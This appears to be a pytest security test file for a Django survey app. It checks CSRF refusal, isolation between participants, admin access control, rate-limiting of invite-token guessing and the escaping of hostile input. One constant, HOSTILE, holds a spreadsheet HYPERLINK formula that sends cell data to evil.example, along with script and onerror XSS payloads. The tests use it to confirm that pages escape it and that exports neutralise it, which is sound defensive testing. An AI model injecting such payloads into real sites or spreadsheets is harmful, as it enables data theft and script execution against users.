"""Participants who try things: every attempt is refused (403/404/400/429), stores nothing, leaks nothing.

Covered next to the survey's own tests (tests/studyapp): forged and foreign trial tokens, out-of-range and
non-integer ratings, over-long justifications (test_survey); images of other participants and studies,
the staff dashboard, token length (test_access); the admin (test_admin); CSV formula neutralisation of
exports (test_export). Here: what crosses those lines.
"""

import base64
import csv
import logging
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.core.cache.backends.db import DatabaseCache
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.urls import get_resolver

from studyapp import throttling
from studyapp.models import ChoiceResponse, LikertResponse, Participant, Trial
from tests.helpers.survey import AGREE, answer_for, location, play_to_end, play_until, start, trial_at

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click") <script>alert(1)</script><img src=x onerror=alert(2)>'


@pytest.fixture(autouse=True)
def fresh_cache():
    cache.clear()  # the invite-guessing counts live there
    yield
    cache.clear()


def csrf_token_of(page):
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode()).group(1)


def test_every_post_without_the_csrf_token_is_refused_and_stores_nothing(study_factory, participant_factory):
    client = Client(enforce_csrf_checks=True)
    participant = participant_factory(study_factory(images=1, attention_checks=False), username="ada",
                                      password="a-long-passphrase")
    assert client.post("/login/", {"username": "ada", "password": "a-long-passphrase"}).status_code == 403
    assert "_auth_user_id" not in client.session
    client.get(f"/i/{participant.invite_token}/")

    def state():
        return (Participant.objects.values().get(pk=participant.pk), LikertResponse.objects.count(),
                ChoiceResponse.objects.count())

    def refused_then_accepted(url, data):
        page = client.get(url)
        before = state()
        for forged in ({}, {"csrfmiddlewaretoken": "x" * 64}):
            assert client.post(url, {**data, **forged}).status_code == 403, url
            assert state() == before, url
        # The same request with the page's token goes through: the refusals were the CSRF check's.
        assert client.post(url, {**data, "csrfmiddlewaretoken": csrf_token_of(page)}).status_code == 303

    for url, data in (("/consent/", AGREE), ("/instructions/", {}),
                      ("/background/", {"degree": "master", "cv_experience_years": "2"})):
        refused_then_accepted(url, data)
    url = location(client.get("/"))
    while url != "/complete/":
        refused_then_accepted(url, answer_for(trial_at(url, participant), 1))
        url = location(client.get("/"))
    assert Participant.objects.get(pk=participant.pk).completed_at is not None


def study_pictures(study):
    """The bytes of every image and map of a study's stimuli."""
    root = Path(settings.STIMULI_ROOT)
    return {(root / name).read_bytes() for stimulus in study.stimuli.select_related("source_image")
            for name in (stimulus.heatmap, stimulus.source_image.image)}


def test_participants_never_reach_each_others_pages_answers_or_completion_code(client, study_factory,
                                                                               participant_factory):
    study = study_factory(images=1, attention_checks=False, completion_code="SECRET-CODE-1")
    elsewhere = study_factory(images=1, attention_checks=False, completion_code="SECRET-CODE-2")
    finished, behind, outsider = participant_factory(study), participant_factory(study), participant_factory(elsewhere)
    play_to_end(client, finished, start(client, finished))
    finished_trials = list(Trial.objects.filter(participant=finished))
    hostile = ChoiceResponse.objects.get(trial__participant=finished)
    client.logout()

    for intruder in (behind, outsider):
        client.logout()
        first = start(client, intruder)
        own_pictures = study_pictures(intruder.study)
        pages, shown = [], 0
        for trial in finished_trials:  # the finished participant's pages, by URL
            response = client.get(f"/trial/{trial.position}/", follow=True)
            assert response.redirect_chain in ([], [(first, 303)]) and response.request["PATH_INFO"] == first
            pages.append(response)
            post = client.post(first, answer_for(trial, 1))  # their trial token on my page
            assert post.status_code == 400
        pages.append(client.get("/complete/", follow=True))
        for response in pages:
            html = response.content.decode()
            assert not any(t.token in html for t in finished_trials)
            assert "SECRET-CODE" not in html and hostile.justification not in html
            embedded = re.findall(r'src="data:image/png;base64,([^"]+)"', html)
            assert {base64.b64decode(data) for data in embedded} <= own_pictures
            shown += len(embedded)
        assert shown  # the intruder's own trial page, with its own study's pictures
        assert not Trial.objects.filter(participant=intruder, likert_response__isnull=False).exists()
    assert LikertResponse.objects.filter(trial__participant=finished).count() == 3


@pytest.mark.parametrize("who", ["anonymous", "participant"])
def test_no_participant_or_visitor_reaches_the_admin_dashboard_or_answers(who, client, study_factory,
                                                                          participant_factory):
    study = study_factory(images=1, attention_checks=False, slug="live")
    finished = participant_factory(study)
    play_to_end(client, finished, start(client, finished))
    justification = ChoiceResponse.objects.get().justification
    client.logout()
    if who == "participant":
        client.get(f"/i/{participant_factory(study).invite_token}/")
    for url in ("/admin/", "/admin/studyapp/choiceresponse/", "/admin/studyapp/likertresponse/",
                "/admin/studyapp/participant/", f"/admin/studyapp/participant/{finished.pk}/change/",
                "/dashboard/", "/dashboard/live/", "/dashboard/live/export.zip", "/dashboard/live/activity.png"):
        response = client.get(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert response["Location"].startswith(("/admin/login/", "/login/")), url
        html = response.content.decode()
        assert finished.pseudonym not in html and justification not in html and finished.invite_token not in html
    # Exports exist as `manage.py export_responses`, run on the server, as the staff console's zip (refused
    # above) and as the API's, for a token alone: no other URL serves one.
    assert sorted(route for route in routes(get_resolver()) if "export" in route) == [
        "api/studies/<slug:slug>/export.zip", "dashboard/<slug:slug>/export.zip"]
    api = client.get("/api/studies/live/export.zip")
    assert api.status_code == 401 and finished.pseudonym not in api.content.decode()
    for url in ("/dashboard/live/report/", "/dashboard/live/decide/"):
        response = client.post(url, {"interim": "yes", "participant": finished.pseudonym, "decision": "exclude",
                                     "reason": "x"})
        assert response.status_code in (302, 403), url
        assert finished.pseudonym not in response.content.decode()
    assert client.get("/export/").status_code in (302, 404)


def routes(resolver, prefix=""):
    """Every URL pattern of the project, as text."""
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            yield from routes(pattern, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern)


def test_invite_token_guessing_is_logged_then_refused_per_address(study_factory, participant_factory, caplog):
    participant = participant_factory(study_factory(images=1))
    guesser = Client(HTTP_X_FORWARDED_FOR="203.0.113.9")  # behind our proxy, as in production
    caplog.set_level(logging.WARNING, logger="studyapp")
    for n in range(throttling.UNKNOWN_INVITES_ALLOWED):
        assert guesser.get(f"/i/guess{n:039d}/").status_code == 404
    assert sum("Unknown invite token" in r.getMessage() and "203.0.113.9" in r.getMessage()
               for r in caplog.records) == throttling.UNKNOWN_INVITES_ALLOWED
    # Past the limit even a valid link is refused from that address, and nobody gets logged in.
    refused = guesser.get(f"/i/{participant.invite_token}/")
    assert refused.status_code == 429 and "Wait 15 minutes" in refused.content.decode()
    assert "_auth_user_id" not in guesser.session
    assert "Invite link refused: 203.0.113.9" in caplog.text
    # Everyone else is unaffected.
    assert Client(HTTP_X_FORWARDED_FOR="198.51.100.4").get(f"/i/{participant.invite_token}/").status_code == 302


def test_guess_counts_are_shared_by_every_worker_through_the_database(study_factory, participant_factory):
    participant = participant_factory(study_factory(images=1))
    for n in range(throttling.UNKNOWN_INVITES_ALLOWED):
        Client(HTTP_X_FORWARDED_FOR="203.0.113.7").get(f"/i/guess{n:039d}/")
    another_worker = DatabaseCache(settings.CACHES["default"]["LOCATION"], {})  # its own cache object, same database
    assert another_worker.get(throttling.key("203.0.113.7")) == throttling.UNKNOWN_INVITES_ALLOWED
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT COUNT(*) FROM {connection.ops.quote_name(settings.CACHES['default']['LOCATION'])}")
        assert cursor.fetchone()[0] == 1
    assert Client(HTTP_X_FORWARDED_FOR="203.0.113.7").get(f"/i/{participant.invite_token}/").status_code == 429


def test_a_spoofed_forwarded_for_header_does_not_dodge_the_limit(study_factory, participant_factory, caplog):
    participant = participant_factory(study_factory(images=1))
    direct = Client(REMOTE_ADDR="192.0.2.50")  # not our proxy: its X-Forwarded-For is ignored
    for n in range(throttling.UNKNOWN_INVITES_ALLOWED):
        direct.get(f"/i/guess{n:039d}/", HTTP_X_FORWARDED_FOR=f"10.0.0.{n}")
    assert direct.get(f"/i/{participant.invite_token}/", HTTP_X_FORWARDED_FOR="10.0.1.1").status_code == 429


def test_hostile_justifications_stay_inert_in_pages_admin_exports_and_report(client, study_factory,
                                                                            participant_factory, tmp_path):
    study = study_factory(images=2, attention_checks=False, slug="hostile")
    participants = [participant_factory(study) for _ in range(3)]
    for participant in participants:
        client.logout()
        url = play_until(client, participant, start(client, participant), "choice")
        while url.startswith("/trial/"):
            assert client.get(url).status_code == 200
            trial = trial_at(url, participant)
            data = {**answer_for(trial, trial.position), "justification": HOSTILE}
            # Refused for the missing choice: the page shows the text back, escaped.
            page = client.post(url, {k: v for k, v in data.items() if k != "choice"})
            assert page.status_code == 400
            assert_escaped(page.content.decode())
            url = location(client.post(url, data))
    assert ChoiceResponse.objects.filter(justification=HOSTILE).count() == 6

    staff = get_user_model().objects.create_superuser("researcher", password="a-long-passphrase")
    client.force_login(staff)
    answer = ChoiceResponse.objects.first()
    for url, shown in (("/admin/studyapp/choiceresponse/", False),
                       (f"/admin/studyapp/choiceresponse/{answer.pk}/change/", True), ("/dashboard/hostile/", False)):
        response = client.get(url)
        assert response.status_code == 200
        assert_escaped(response.content.decode(), shown)

    call_command("export_responses", "--study", "hostile", "--out", str(tmp_path / "export"))
    rows = list(csv.DictReader(open(tmp_path / "export" / "choices.csv", newline="")))
    assert [row["justification"] for row in rows] == ["'" + HOSTILE] * 6  # a spreadsheet shows it as text

    call_command("analyze", "--study", "hostile", "--out", str(tmp_path / "report"))
    assert_escaped((tmp_path / "report" / "report.html").read_text())
    assert_escaped((tmp_path / "report" / "report.md").read_text())
    tables = {path.name: list(csv.reader(open(path, newline=""))) for path in (tmp_path / "report" / "tables").glob("*.csv")}
    assert any("'" + HOSTILE in row for rows in tables.values() for row in rows), "the report lists the justifications"
    assert not [cell for rows in tables.values() for row in rows for cell in row if cell.startswith(("=", "@"))]


def assert_escaped(html, shown=True):
    """The hostile text appears (when `shown`) only as text: escaped, never as markup."""
    assert "<script>alert(1)" not in html and "<img src=x" not in html
    if shown:
        assert "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;" in html
